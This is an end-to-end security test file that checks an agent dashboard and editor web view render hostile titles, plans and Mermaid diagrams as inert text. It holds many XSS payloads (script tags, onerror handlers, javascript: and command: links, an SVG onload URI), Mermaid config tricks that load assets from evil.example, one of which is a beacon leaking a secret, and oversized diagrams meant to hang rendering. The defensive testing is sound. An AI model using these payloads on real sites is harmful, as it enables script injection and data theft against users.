/**
 * Hostile texts in the dashboard and in the editor: what agents, people and repositories write is shown as words. The cases
 * bear the ids under which the security review knows them.
 */
import assert from 'node:assert/strict';
import path from 'node:path';
import type { FrameLocator, Page } from 'playwright-core';
import { AttackWatch } from '../harness/attack-watch.ts';
import type { Editor } from '../harness/editor.ts';
import { ROOT } from '../harness/install.ts';
import type { Server } from '../harness/server.ts';
import type { Journey, Stage } from '../harness/stage.ts';

const HOSTILE = path.join(ROOT, 'e2e', 'scripts', 'hostile.script.yaml');
const TITLE = `[Run](command:workbench.action.terminal.new) <script>top.PWN='run'</script>"><img src=x onerror="top.PWN=1"> [x](javascript:top.PWN=2) {{7*7}} \${7*7}`;

export const journey: Journey = {
  name: 'attacks',
  async play(stage) {
    const server = await stage.startServer({ env: { AUTONOMOUS_SCRIPT: HOSTILE } });
    const run = await server.launch(TITLE, { git: { autoMerge: false } });
    await server.heard(run.id, 'APPROVAL_REQUESTED');
    await inDashboard(stage, server, run.id);
    const next = await server.launch(TITLE, { git: { autoMerge: false } });
    await server.heard(next.id, 'APPROVAL_REQUESTED');
    await inEditor(stage, server, next.id);
  },
};

async function inDashboard(stage: Stage, server: Server, runId: string): Promise<void> {
  const { page } = await stage.openWindow();
  page.setDefaultTimeout(30_000);
  const watch = await AttackWatch.over(page);
  const isOwn = (address: string): boolean => address.startsWith(`${server.url}/`);
  await page.goto(await server.client.createSignInLink());
  await page.getByRole('link', { name: TITLE }).waitFor();
  await watch.check('E06 the list of runs', isOwn);
  await stage.picture(page, 'runs');

  await page.goto(`${server.url}/runs/${runId}/plan`);
  await page.getByRole('heading', { name: TITLE, level: 1 }).waitFor();
  await page.locator('.diagram svg').waitFor();
  await checkPlan(page, () => watch.check('E03 and E06 the plan', isOwn));
  await stage.picture(page, 'plan');
  await mermaidAttacks(page, () => watch.check('E01', isOwn));
  await diagramsThatTakeTooLong(stage, page, page, 'dashboard');
  await restoreEditing(page);
  await watch.check('E02', isOwn);

  await ask(page, page);
  await page.getByText('onerror="top.PWN=\'reply\'"').waitFor();
  await watch.check("E06 the planner's answer", isOwn);
  await page.getByRole('button', { name: 'Approve' }).click();
  await page.getByRole('radio', { name: '<img src=x onerror="top.PWN=2">' }).click();
  await watch.check('E06 a question', isOwn);
  await stage.picture(page, 'question');
  await page.getByRole('button', { name: /^Answer/ }).click();
  await server.heard(runId, 'IMPLEMENTATION_SUCCEEDED');
  await page
    .getByText(/Waiting for approval|Completed|Paused|Pushed/)
    .first()
    .waitFor({ timeout: 60_000 });
  for (const tab of ['Overview', 'Changes', 'Evidence', 'Transcript', 'Statechart']) {
    await page.getByRole('navigation', { name: 'Parts of the run' }).getByRole('link', { name: tab }).click();
    await page.waitForLoadState('networkidle');
    if (tab === 'Changes') await page.getByText('src/"><img src=x onerror=top.PWN=4>.js').first().waitFor();
    await watch.check(`E06 ${tab}`, isOwn);
  }
  await stage.picture(page, 'after-all');
}

async function inEditor(stage: Stage, server: Server, runId: string): Promise<void> {
  const editor = await stage.openEditor({ ...server.reachedBy() });
  const watch = await AttackWatch.over(editor.page);
  await editor.openViews();
  const line = editor.line(new RegExp(`PWN='run'.*Waiting for approval`));
  await line.waitFor();
  // A notification shows a title's words and makes no link of them.
  const told = await server.launch(TITLE, { git: { autoMerge: false } });
  await server.heard(told.id, 'APPROVAL_REQUESTED');
  const notice = editor.notification('PWN').first();
  await notice.waitFor();
  assert.equal(await notice.locator('.notification-list-item-message a').count(), 0, 'E06 a notification has no link');
  // A web view's own files bear a name that only its service worker knows.
  const isOwn = (address: string): boolean =>
    address.startsWith(`${editor.host.origin}/`) ||
    /^https:\/\/[\w+-]+\.vscode-resource\.vscode-cdn\.net\/.*\/dist\/webview\/[a-z]+\.(?:css|js|ttf)$/.test(address);
  const check = (what: string): Promise<void> => watch.check(what, isOwn);
  await check('E06 tree and notification');
  await stage.picture(editor.page, 'tree-and-notification');
  await server.client.cancelRun(told.id);

  await line.first().click();
  const panel = editor.webView;
  await panel.getByRole('heading', { name: TITLE, level: 1 }).waitFor();
  await panel.locator('.diagram svg').first().waitFor();
  await checkWebViewPage(editor);
  await checkPlan(panel, () => check('E03 and E06 the plan in the editor'));
  await stage.picture(editor.page, 'plan-in-the-editor');
  await mermaidAttacks(panel, () => check('E01 in the editor'));
  await diagramsThatTakeTooLong(stage, editor.page, panel, 'editor');
  await restoreEditing(panel);
  await check(`E02 in the editor, run ${runId}`);
}

type Shown = Page | FrameLocator;

async function checkPlan(shown: Shown, check: () => Promise<void>): Promise<void> {
  const document = shown.locator('.document').first();
  // The words are there, and what they would have been is not.
  await document.getByText("<script>top.PWN='heading'</script>").waitFor();
  // Asked of the page itself: widgets have styles of their own within.
  const embedded = await document.evaluate(
    (element) => element.querySelectorAll('img, script, link, style, iframe').length,
  );
  assert.equal(embedded, 0, 'E03 nothing is embedded');
  await document.getByText('Image: beacon (https://evil.example/beacon.png?d=SECRET)').waitFor();
  await document.getByText('Image: by name (https://evil.example/reference.png)').waitFor();
  assert.equal(
    await document.locator('a[href^="javascript:" i], a[href^="command:" i], a[href^="data:" i]').count(),
    0,
  );
  await check();
}

const PICTURE =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

/** The text that is written is drawn beside it as it is written. */
async function write(shown: Shown, text: string): Promise<void> {
  const edit = shown.getByRole('button', { name: 'Edit the plan' });
  if (await edit.isVisible()) await edit.click();
  // Pasted at one go: what types for a person takes minutes over twenty thousand lines.
  await shown.getByRole('textbox', { name: 'The plan, in Markdown with Mermaid' }).evaluate((field, value) => {
    (field as HTMLTextAreaElement).value = value;
    field.dispatchEvent(new Event('input', { bubbles: true, composed: true }));
  }, text);
}

const fenced = (diagram: string): string => `\`\`\`mermaid\n${diagram}\n\`\`\`\n`;

async function restoreEditing(shown: Shown): Promise<void> {
  await shown.getByRole('button', { name: 'Leave it as it was' }).click();
}

async function mermaidAttacks(shown: Shown, check: () => Promise<void>): Promise<void> {
  const attacks = [
    'sequenceDiagram\n  A->>B: $$<img src=x onerror=top.PWN=1>$$',
    'architecture-beta\n  service db("<img src=x onerror=top.PWN=1>")[Database]',
    'flowchart TD\n  a --> b\n  click a call callMe()\n  click b href "javascript:top.PWN=1"',
    'flowchart TD\n  a["<img src=x onerror=top.PWN=1><script>top.PWN=1</script>"] --> b["`**x** <iframe srcdoc=\'<script>top.PWN=1</script>\'>`"]',
    `%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "@import url(https://evil.example/a.css); * { background: url(https://evil.example/b.png) }"}}%%\nflowchart TD\n  a["<img src=https://evil.example/c.png onerror=top.PWN=1>"] --> b\n  click a call callMe()`,
    '---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n  fontFamily: "x; } * { background: url(https://evil.example/d.png)"\n  dompurifyConfig: { ADD_TAGS: [script] }\n---\nflowchart TD\n  a["<script>top.PWN=1</script>"] --> b',
    'flowchart TD\n  classDef x fill:url(https://evil.example/e.png),background:url(https://evil.example/f.png)\n  a:::x --> b\n  linkStyle 0 stroke:url(https://evil.example/g.png)',
    'flowchart TD\n  a@{ img: "https://evil.example/h.png", label: "x", w: 60, h: 60 } --> b@{ icon: "evil:x" }',
    'classDiagram\n  class A\n  click A href "javascript:top.PWN=1" "<img src=x onerror=top.PWN=1>"\n  link A "https://evil.example/i"',
  ];
  for (const [index, attack] of attacks.entries()) {
    // A mark by which its drawing is known from the one before.
    await write(shown, `# Attack ${index}\n\n${fenced(attack)}`);
    await shown.getByRole('heading', { name: `Attack ${index}`, exact: true }).waitFor();
    await drawnOrRefused(shown);
    // Whoever clicks on what is drawn runs nothing either.
    for (const node of (await shown.locator('.document .node').all()).slice(0, 3)) await node.dispatchEvent('click');
    assert.equal(
      await shown.locator('.diagram :is(a, image, script, iframe, foreignObject, img)').count(),
      0,
      `E01 attack ${index} put something into the drawing that is no shape`,
    );
    await check();
  }
  await write(shown, `![dot](${PICTURE})\n\n![svg](data:image/svg+xml,<svg/onload=top.PWN=1>)`);
  await shown.getByRole('button', { name: 'Image: dot (show)' }).click();
  await shown.locator('.document img[alt="Image: dot"]').waitFor();
  assert.equal(await shown.locator('.document img').count(), 1, 'E03 only the image that was asked for is shown');
  await check();
}

/** Once nothing is being drawn any more. */
async function drawnOrRefused(shown: Shown): Promise<void> {
  const settled = shown.locator('.document .diagram:not([aria-busy="true"])').first();
  await settled.waitFor();
}

async function diagramsThatTakeTooLong(stage: Stage, page: Page, shown: Shown, host: string): Promise<void> {
  const retry = shown.getByRole('button', { name: 'Retry render' });
  const tooLarge: readonly (readonly [string, string])[] = [
    ['20,000 nodes', `flowchart TD\n${Array.from({ length: 20_000 }, (_, index) => `n${index}`).join('\n')}`],
    ['a label of a million characters', `flowchart TD\n  a["${'x '.repeat(500_000)}"]`],
  ];
  for (const [what, diagram] of tooLarge) {
    await write(shown, `# ${what}\n\n${fenced(diagram)}`);
    await shown.getByRole('heading', { name: what }).waitFor();
    await shown.getByText(/at most 50000 are drawn/).waitFor();
    await retry.waitFor();
    await shown.getByLabel('Source of the diagram').waitFor();
  }
  const slow: readonly (readonly [string, string])[] = [
    ['one long word', `flowchart TD\n  a["${'x'.repeat(45_000)}"]`],
    ['many edges in few words', `flowchart TD\n  ${ends('a')} --> ${ends('b')}`],
    [
      'deep nesting',
      `flowchart TD\n${Array.from({ length: 1_500 }, (_, index) => `subgraph s${index}`).join('\n')}\na-->b\n${'end\n'.repeat(1_500)}`,
    ],
    ['a text that regular expressions dislike', `flowchart TD\n  a["${'<'.repeat(20_000)}${'&#'.repeat(10_000)}"]`],
  ];
  for (const [what, diagram] of slow) {
    await write(shown, `# ${what}\n\n${fenced(diagram)}`);
    await shown.getByRole('heading', { name: what }).waitFor();
    if (what === 'one long word') {
      // This one never ends by itself: the page answers while it is drawn, and goes on when it is stopped.
      await shown.getByText('Drawing…').or(retry).first().waitFor();
      assert.equal(await retry.count(), 0, 'the drawing was given up before anything could be tried');
      await shown.getByRole('checkbox', { name: 'Source' }).click();
      await shown.getByRole('checkbox', { name: 'Source' }).click();
      assert.equal(await retry.count(), 0, `E02 the ${host} did not answer while a diagram was being drawn`);
      await shown.getByText(/took longer than 3 s/).waitFor();
      await stage.picture(page, `given-up-in-the-${host}`);
      await retry.click();
      await shown.getByText('Drawing…').waitFor();
    }
    await drawnOrRefused(shown);
  }
  await write(shown, `# well again\n\n${fenced('flowchart TD\n  fine --> still')}`);
  await shown.getByRole('heading', { name: 'well again' }).waitFor();
  await shown.locator('.document .diagram svg').filter({ hasText: 'still' }).waitFor();
}

const ends = (letter: string): string => Array.from({ length: 22 }, (_, index) => `${letter}${index}`).join(' & ');

async function ask(_page: Page, shown: Shown): Promise<void> {
  await shown.getByRole('button', { name: 'Ask…' }).click();
  await shown
    .getByRole('textbox', { name: 'Your question to the planner' })
    .fill("Why? <script>top.PWN='asked'</script>");
  await shown.getByRole('button', { name: 'Ask', exact: true }).click();
}

/** E04: the page as the editor has it, not as it was meant. */
async function checkWebViewPage(editor: Editor): Promise<void> {
  const inner = editor.page
    .frames()
    .filter((frame) => frame.name() === 'active-frame' || /fake\.html/.test(frame.url()));
  const pages = await Promise.all(
    inner.map((frame) =>
      frame.evaluate(() => ({
        policy: document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content') ?? '',
        scripts: [...document.querySelectorAll('script')].map(({ src, nonce }) => ({ src, nonce })),
        handlers: [...document.querySelectorAll('*')].filter((element) =>
          [...element.attributes].some(({ name }) => name.startsWith('on')),
        ).length,
        links: [...document.querySelectorAll('a')].map(({ href }) => href),
      })),
    ),
  );
  const page = pages.find(({ policy }) => policy.includes("default-src 'none'"));
  assert.ok(page, 'E04 the web view has a policy that lets nothing in');
  const nonce = /script-src 'nonce-([^']+)'/.exec(page.policy)?.[1];
  assert.match(nonce ?? '', /^[\w+/]{22}==$/, 'E04 scripts bear a nonce of this load');
  assert.doesNotMatch(page.policy, /unsafe-eval|connect-src|frame-src|script-src[^;]*(?:https?:|'unsafe)/);
  const own = page.scripts.filter((script) => script.src.endsWith('/dist/webview/app.js'));
  assert.equal(own.length, 1, 'E04 one script of ours runs');
  assert.equal(own[0]?.nonce, nonce);
  assert.equal(page.handlers, 0, 'E04 no element has a handler in its text');
  assert.deepEqual(
    page.links.filter((href) => /^(?:command|file|javascript|data):/i.test(href)),
    [],
  );
}
